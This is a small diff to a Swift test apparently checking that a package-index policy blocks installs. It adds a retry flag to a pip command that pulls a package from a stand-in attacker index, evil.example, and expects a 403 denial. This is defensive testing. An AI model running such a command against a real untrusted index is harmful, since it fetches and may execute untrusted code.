@@ -84,8 +84,9 @@ import Testing
                 "\(pip) rookery-demo && PYTHONPATH=/tmp/site python3 -c 'import rookery_demo; print(rookery_demo.answer)'",
                 in: id)
             #expect(installed.output.hasSuffix("42\n"), "\(installed)\n\(site.requests)")
+            // It says why when it tries again.
             let denied = try await site.execute(
-                "\(pip) --index-url https://evil.example/simple/ rookery-demo", in: id)
+                "\(pip) --retries 1 --index-url https://evil.example/simple/ rookery-demo", in: id)
             #expect(denied.status != 0)
             #expect(denied.output.contains("403 rookery: the policy 'team' does not let"), "\(denied)")
         }
